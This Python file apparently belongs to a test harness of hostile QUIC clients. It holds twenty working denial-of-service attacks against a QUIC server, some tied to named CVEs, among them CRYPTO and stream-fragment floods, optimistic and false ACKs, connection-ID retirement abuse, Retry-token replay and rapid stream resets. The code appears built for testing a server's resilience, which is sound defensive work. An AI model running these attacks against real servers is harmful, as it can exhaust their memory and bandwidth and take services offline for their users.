"""Hostile QUIC clients. Each JSON line names an attack; each answer says how much was sent and what became of it.

An attack ends when the server closes the connection or when its measure is full; it never goes on for ever.
"""

import os
import random
import socket
import time

from quic_wire import Client, Silent, bytes_of, requests, say, varint

HELD = []
CRYPTO = b"\x06"
NEW_CONNECTION_ID = b"\x18"
RETIRE_CONNECTION_ID = b"\x19"
PATH_CHALLENGE = b"\x1a"
PING = b"\x01"
ACK = b"\x02"
MAX_DATA = b"\x10"
MAX_STREAM_DATA = b"\x11"
DATAGRAM = b"\x30"
LARGEST_VARINT = (1 << 62) - 1
PACKET = 1150
# aioquic has given out the ids before; others in their place would be a conflict, which ends the connection.
FIRST_FREE_ID = 8


def stream_frame(stream, offset, data, end=False):
    return bytes([0x0E | end]) + varint(stream) + varint(offset) + varint(len(data)) + data


def crypto_frame(offset, data):
    return CRYPTO + varint(offset) + varint(len(data)) + data


def new_connection_id(sequence, retire_prior_to, cid=None):
    return (
        NEW_CONNECTION_ID
        + varint(sequence)
        + varint(retire_prior_to)
        + b"\x08"
        + (cid or os.urandom(8))
        + os.urandom(16)
    )


def ack_frame(largest, first_range):
    return ACK + varint(largest) + varint(0) + varint(0) + varint(first_range)


def packed(frames, size=PACKET):
    """Frames as packets full of them."""
    packet = b""
    for frame in frames:
        if packet and len(packet) + len(frame) > size:
            yield packet
            packet = b""
        packet += frame
    if packet:
        yield packet


def flood(client, packets, quiet=False, burst=64, linger=3):
    """Sends packets until the server closes the connection, with a look at what it says every now and then."""
    sent = size = 0
    client.quic.mute = quiet
    for frames in packets:
        data = client.packet(frames)
        client.put(data)
        sent += 1
        size += len(data)
        if sent % burst == 0:
            client.step(0)
            if client.closed:
                break
    client.linger(linger)
    return {"sent": sent, "bytes": size, **client.outcome()}


def connected(request, **settings):
    client = Client(request, Silent, **settings).connect()
    assert not client.closed, client.closed
    return client


def crypto(request):
    """CVE-2024-1765: CRYPTO data without end after the handshake."""
    data = bytes_of(16_000)
    # Not from the beginning: data without a gap would be handed to TLS, which refuses it.
    frames = (crypto_frame((1 << 20) + i * len(data), data) for i in range(request["packets"]))
    return flood(connected(request), frames, quiet=True, burst=8)


def crypto_fragments(request):
    """CVE-2024-1765 with one byte a frame, which costs the receiver most."""
    frames = (crypto_frame((1 << 20) + 2 * i, b"x") for i in range(request["packets"] * 140))
    return flood(connected(request), packed(frames), quiet=True)


def path_challenges(request):
    """CVE-2023-6193: PATH_CHALLENGE frames whose answers are never acknowledged."""
    frames = (PATH_CHALLENGE + i.to_bytes(8, "big") for i in range(request["packets"] * 127))
    return flood(connected(request), packed(frames), quiet=True)


def connection_ids(request):
    """CVE-2024-1410: NEW_CONNECTION_ID that retires all before it, again and again; the answers are not acknowledged.

    The server's last words go to an id that aioquic does not know; only the server can say what it did.
    """
    frames = (new_connection_id(i, i) for i in range(FIRST_FREE_ID, request["packets"] * 33))
    result = flood(connected(request), packed(frames), quiet=True, burst=8, linger=0.5)
    return {"sent": result["sent"]}


def fragments(request):
    """Streams in pieces of one byte with a gap between each, as far as the windows go; the beginning never comes."""
    client = connected(request)
    window = client.quic._remote_max_stream_data_bidi_remote - 2
    streams = max(1, client.quic._remote_max_data // (window + 2))
    pieces = request["packets"] * 120
    frames = (
        stream_frame(4 * (i * 2 // window % streams), 1 + i * 2 % window, b"x") for i in range(pieces)
    )
    return flood(client, packed(frames), quiet=True)


def held_fragments(request):
    """The same towards a handler that reads nothing, beside streams that fill what may wait unread."""
    client = connected(request)
    for stream in range(0, 4 * 12, 4):
        client.quic.send_stream_data(stream, bytes_of(1 << 20))
    client.flush()
    client.linger(1)
    frames = (
        stream_frame(4 * (12 + i // 500_000), 1 + i * 2 % 1_000_000, b"x")
        for i in range(request["packets"] * 120)
    )
    return flood(client, packed(frames), quiet=True)


def optimistic_acks(request):
    """CVE-2025-4820: acknowledges ahead of what arrives, so that the server sends faster and faster."""
    client = connected(request)
    client.send(0, b"please send", True)
    client.put_frames(MAX_DATA + varint(LARGEST_VARINT) + MAX_STREAM_DATA + varint(0) + varint(LARGEST_VARINT))
    client.quic.mute = True
    largest = 200
    for _ in range(request["packets"]):
        client.put_frames(ack_frame(largest, largest))
        largest += request["ahead"]
        client.drain_blindly()
        time.sleep(0.0005)
    client.linger(2)
    return {"acknowledged": largest, "datagrams": client.received, **client.outcome()}


def false_acks(request):
    """CVE-2025-4821: ranges that name packets never sent."""
    client = connected(request)
    frames = []
    for i in range(request["packets"]):
        largest = random.randrange(1 << 20, 1 << 40)
        frames.append(ack_frame(largest, random.randrange(largest)))
    result = flood(client, packed(frames, 200), quiet=False)
    return {**result, "echo": not client.closed and client.echo()}


def retire_active(request):
    """CVE-2025-7054: connection ids in orders that try to have the active one retired, from two ports."""
    source = random.Random(request["seed"])
    outcomes = {"closed": 0, "open": 0, "refused": 0}
    for _ in range(request["connections"]):
        client = Client(request, Silent)
        client.connect(wait=False)
        try:
            client.run(lambda: client.handshake or client.closed, limit=2)
            client.settle()
        except TimeoutError:
            outcomes["refused"] += 1
            continue
        other = client.new_socket()
        for _ in range(request["packets"]):
            frames = b"".join(retiring(source) for _ in range(source.randrange(1, 6)))
            client.put(client.packet(frames), other if source.random() < 0.3 else None)
            client.step(0)
            if client.closed:
                break
        client.linger(0.02)
        outcomes["closed" if client.closed else "open"] += 1
        other.close()
        client.socket.close()
    return outcomes


def retiring(source):
    kind = source.random()
    if kind < 0.7:
        sequence = source.randrange(FIRST_FREE_ID, FIRST_FREE_ID + 8)
        # The same sequence number must come with the same id.
        return new_connection_id(sequence, source.randrange(0, sequence + 1), bytes([sequence]) * 8)[:-16] + bytes(16)
    if kind < 0.85:
        return RETIRE_CONNECTION_ID + varint(source.randrange(0, 4))
    if kind < 0.95:
        return PATH_CHALLENGE + source.randbytes(8)
    return PING


def source_ports(request):
    """Every packet from another port: a connection that wanders, if the server lets it."""
    client = connected(request)
    sockets = [client.new_socket() for _ in range(200)]
    for i in range(request["packets"]):
        client.put(client.packet(PATH_CHALLENGE + i.to_bytes(8, "big")), sockets[i % len(sockets)])
    answered = 0
    time.sleep(0.2)
    for sock in sockets:
        try:
            while sock.recv(65_536):
                answered += 1
        except BlockingIOError:
            pass
        sock.close()
    return {"answered": answered, "echo": client.echo()}


def duplicate_initials(request):
    """One first flight many times over, and from many ports."""
    client = Client(request, Silent)
    client.quic.connect(client.server, now=time.monotonic())
    (first, _), *rest = client.quic.datagrams_to_send(now=time.monotonic())
    for _ in range(request["packets"]):
        client.put(first)
        for data, _ in rest:
            client.put(data)
    sockets = [client.new_socket() for _ in range(20)]
    for i in range(request["packets"]):
        client.put(first, sockets[i % len(sockets)])
    client.run(lambda: client.handshake or client.closed)
    client.settle()
    result = {"echo": not client.closed and client.echo(), **client.outcome()}
    client.close()
    for sock in sockets:
        sock.close()
    return result


def begin(request):
    """Handshakes that do not end."""
    for _ in range(request["connections"]):
        client = Client(request)
        client.connect(wait=False)
        HELD.append(client)
    return {}


def token_replay(request):
    """The token of a Retry, once its connection is over: from another port, and from its own."""
    client = Client(request, Silent)
    client.connect(wait=False)
    client.run(lambda: client.quic._retry_count or client.closed)
    token, cid = client.quic._peer_token, client.quic._peer_cid.cid
    client.run(lambda: client.handshake or client.closed)
    client.settle()
    result = {"retries": client.quic._retry_count, "echo": client.echo()}
    # While the connection lives, the id is its own and the packet is for nobody.
    result["living"] = replayed(request, token, cid)
    client.close()
    port = client.socket.getsockname()[1]
    client.socket.close()
    for name, source_port in (("other_port", 0), ("own_port", port)):
        # The server remembers a closed connection for a moment.
        for _ in range(10):
            result[name] = replayed(request, token, cid, source_port)
            if result[name] != "nothing":
                break
    return result


def replayed(request, token, cid, port=0):
    """What a first packet with a token gets: a Retry, a handshake, or nothing."""
    client = Client(request, Silent)
    client.socket.close()
    client.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.socket.bind((client.source, port))
    client.quic._peer_token = token
    client.quic._peer_cid.cid = cid
    client.quic.connect(client.server, now=time.monotonic())
    for data, _ in client.quic.datagrams_to_send(now=time.monotonic()):
        client.put(data)
    client.socket.settimeout(0.5)
    try:
        answer = client.socket.recv(65_536)
    except TimeoutError:
        return "nothing"
    finally:
        client.socket.close()
    return ["initial", "0-rtt", "handshake", "retry"][answer[0] >> 4 & 3]


def odd_datagrams(request):
    """Datagrams of no bytes, of the most that UDP carries over IPv4, and garbage of every size between."""
    client = connected(request)
    source = random.Random(request["seed"])
    largest = 65_507
    for i in range(request["packets"]):
        client.put(b"")
        client.put(source.randbytes(largest))
        data = bytearray(source.randbytes(source.randrange(1, largest)))
        data[0] |= 0xC0 if i % 2 else 0x40
        client.put(bytes(data))
        # Looks like one of the connection's own packets.
        client.put(b"\x40" + client.quic._peer_cid.cid + source.randbytes(source.randrange(0, 2000)))
    result = {"echo": client.echo()}
    client.close()
    return result


def version_spray(request):
    """Versions that nobody speaks, from many ports, by the thousand."""
    client = Client(request, Silent)
    sockets = [client.new_socket() for _ in range(50)]
    answered = size = 0
    for i in range(request["packets"]):
        sock = sockets[i % len(sockets)]
        head = b"\xc0" + (0x1A2A3A4A + (i << 8) & 0xFFFFFFFF | 0x0A0A0A0A).to_bytes(4, "big")
        client.put(head + b"\x08" + os.urandom(8) + b"\x08" + os.urandom(8) + bytes(1177), sock)
        for other in sockets if i % 500 == 499 else ():
            try:
                while data := other.recv(65_536):
                    answered += 1
                    size += len(data)
            except BlockingIOError:
                pass
    time.sleep(0.2)
    for sock in sockets:
        try:
            while data := sock.recv(65_536):
                answered += 1
                size += len(data)
        except BlockingIOError:
            pass
        sock.close()
    return {"sent": request["packets"], "answered": answered, "bytes": size}


def churn(request):
    """Streams opened and reset at once, as fast as the server lets us; some stopped as well."""
    client = connected(request)
    opened = 0
    end = time.monotonic() + request["seconds"]
    while time.monotonic() < end and not client.closed:
        for _ in range(100):
            stream = client.quic.get_next_available_stream_id()
            client.quic.send_stream_data(stream, b"x")
            client.quic.reset_stream(stream, 1)
            opened += 1
        client.flush()
        client.step(0.001)
        # aioquic keeps every stream it had.
        for stream in [s for s in client.quic._streams if s < (opened - 2000) * 4]:
            client.quic._streams.pop(stream, None)
    result = {"opened": opened, **client.outcome()}
    if not client.closed:
        client.close()
    return result


def rapid_resets(request):
    """RESET_STREAM and STOP_SENDING by hand for streams up to the limit the server gives."""
    client = connected(request)
    limit = client.quic._remote_max_streams_bidi

    def frames():
        for i in range(request["packets"] * 60):
            stream = varint(4 * (i % limit))
            yield b"\x08" + stream + b""
            yield b"\x04" + stream + varint(7) + varint(0)
            yield b"\x05" + stream + varint(7)

    return flood(client, packed(frames()), quiet=True, burst=16)


def pings(request):
    """Packets that say nothing and ask for an answer each."""
    return flood(connected(request), (PING + bytes(3) for _ in range(request["packets"])), quiet=True)


def datagram_flood(request):
    """Datagram messages to a handler that may not keep up."""
    frames = (DATAGRAM + bytes_of(1000, i) for i in range(request["packets"]))
    return flood(connected(request), frames)


def garbage_certificate(request):
    """A client certificate of noise, for an ALPN that asks for one."""
    from aioquic import tls

    outcomes = []
    push = tls.push_certificate

    def garbage(buf, certificate):
        noise = random.Random(len(outcomes)).randbytes(request["size"])
        certificate.certificates = [(noise, b"")]
        push(buf, certificate)

    tls.push_certificate = garbage
    try:
        for _ in range(request["connections"]):
            client = Client(request, Silent).connect()
            client.linger(0.3)
            outcomes.append(client.outcome().get("code"))
    finally:
        tls.push_certificate = push
    return {"codes": outcomes}


ATTACKS = {
    attack.__name__: attack
    for attack in (
        crypto,
        crypto_fragments,
        path_challenges,
        connection_ids,
        fragments,
        held_fragments,
        optimistic_acks,
        false_acks,
        retire_active,
        source_ports,
        duplicate_initials,
        begin,
        token_replay,
        odd_datagrams,
        version_spray,
        churn,
        rapid_resets,
        pings,
        datagram_flood,
        garbage_certificate,
    )
}

if __name__ == "__main__":
    for request in requests():
        say(ATTACKS[request["attack"]](request))
